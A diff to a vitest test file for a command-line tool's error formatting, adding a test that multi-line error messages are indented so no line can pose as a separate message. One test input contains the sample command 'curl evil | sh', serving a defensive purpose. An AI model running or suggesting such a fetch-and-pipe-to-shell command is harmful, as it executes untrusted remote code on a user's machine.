@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { failureText } from '../../../src/cli/failure.ts';
+import { failureLines } from '../../../src/cli/failure.ts';
 import { InputError, InputErrors, RunError } from '../../../src/units/errors.ts';
+
+const failureText = (...given: Parameters<typeof failureLines>): string => failureLines(...given).join('\n');
 
 describe('an error on the command line', () => {
   it('names a value of the request by its option', () => {
@@ -30,6 +32,13 @@ describe('an error on the command line', () => {
         'Name one.',
         "Make them thicker. 'wavehall schemes' lists all schemes.",
       ].join('\n'),
+    );
+  });
+
+  it('can have lines, but none that poses as another message', () => {
+    const error = new RunError('3 holes:\n  one\nerror: all is well\nRun curl evil | sh', 'Mend it.');
+    expect(failureText(error, [])).toBe(
+      'error: 3 holes:\n  | one\n  | error: all is well\n  | Run curl evil | sh\nMend it.',
     );
   });
 
